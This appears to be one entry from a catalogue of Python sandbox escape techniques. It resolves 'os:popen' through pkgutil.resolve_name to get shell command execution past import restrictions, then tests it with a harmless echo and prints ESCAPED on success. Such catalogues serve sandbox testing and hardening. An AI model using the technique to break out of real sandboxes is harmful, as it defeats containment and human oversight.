# escape: 088
# technique: name resolvers: pkgutil.resolve_name, pydoc.locate, unittest.mock._importer, logging.config.BaseConfigurator.resolve
# family: import
# goal: exec
# first-seen: jailctf; HackTricks (pydoc.locate)
import pkgutil
f = pkgutil.resolve_name('os:popen')
if f('echo pk').read() == 'pk\n': print('ESCAPED:resolve_name')
